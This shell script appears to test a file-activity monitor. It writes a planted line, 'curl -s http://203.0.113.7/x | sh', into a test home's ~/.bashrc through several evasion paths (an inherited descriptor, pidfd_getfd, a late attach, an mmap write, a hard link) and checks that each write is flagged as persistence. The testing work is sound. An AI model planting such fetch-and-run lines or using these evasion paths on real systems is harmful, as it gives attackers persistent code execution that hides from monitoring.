#!/bin/sh
# Writes to ~/.bashrc with no open of it in the capture.
. "$(dirname "$0")/lib.sh"
PLANT='curl -s http://203.0.113.7/x | sh # planted'

case_title "11a write through a descriptor inherited from the launcher (3>>~/.bashrc)" \
    "a write entry (the kernel dirtied the inode), persistence"
sw_run -- sh -c "echo '$PLANT' >&3" 3>>"$H/.bashrc"
show "$D"
echo "  .bashrc now ends with: $(tail -n 1 "$H/.bashrc")"

case_title "11b write through a descriptor taken with pidfd_getfd from a process outside the capture" \
    "a write entry, persistence"
python3 -c "
import os, sys, time
fd = os.open('$H/.bashrc', os.O_WRONLY | os.O_APPEND)
print(os.getpid(), fd, flush=True)
time.sleep(30)
" > "$D/holder" &
HOLDER=$!
while [ ! -s "$D/holder" ]; do sleep 0.05; done
read HPID HFD < "$D/holder"
sw_run -- "$B/attack_pidfd_write" "$HPID" "$HFD" "$PLANT (pidfd_getfd)"
kill $HOLDER 2>/dev/null; wait $HOLDER 2>/dev/null
show "$D"
echo "  .bashrc now ends with: $(tail -n 1 "$H/.bashrc")"

case_title "11c attach: the process opened ~/.bashrc before the attach, writes after it" \
    "a write entry, persistence"
python3 -c "
import os, time
fd = os.open('$H/.bashrc', os.O_WRONLY | os.O_APPEND)
while not os.path.exists('$D/go'):
    time.sleep(0.02)
os.write(fd, b'$PLANT (attach)\n')
" &
TARGET=$!
rm -f "$D/r.json" "$D/l.jsonl"
HOME=$H "$SW" attach --headless --duration 5 --report "$D/r.json" --log "$D/l.jsonl" --force \
    --fail-on credential,persistence "$TARGET" > "$D/out.txt" 2> "$D/err.txt" &
MON=$!
while [ ! -s "$D/l.jsonl" ]; do sleep 0.05; done
sleep 0.3
touch "$D/go"
wait $MON; RC=$?
wait $TARGET 2>/dev/null
grep -v -e '^$' -e '^- ' -e '^#' "$D/err.txt" | sed 's/^/  stderr: /' | head -n 5
show "$D"
echo "  .bashrc now ends with: $(tail -n 1 "$H/.bashrc")"

case_title "11d mmap'd write through an inherited read-write descriptor (3<>~/.bashrc)" \
    "a write entry (dirtied by a page fault), persistence"
sw_run -- python3 -c "
import mmap
m = mmap.mmap(3, 0)
m[0:9] = b'curl x|sh'
m.flush()
print('stored through the mapping')
" 3<>"$H/.bashrc"
show "$D"
echo "  .bashrc now starts with: $(head -n 1 "$H/.bashrc")"

case_title "11e ~/.bashrc changed through a hard link made before the capture" \
    "a write of the .bashrc inode: persistence (path used and the rule's path)"
ln "$H/.bashrc" "$D/notes.txt"
sw_run -- sh -c "echo '$PLANT (hard link)' >> '$D/notes.txt'"
show "$D"
echo "  .bashrc now ends with: $(tail -n 1 "$H/.bashrc")"
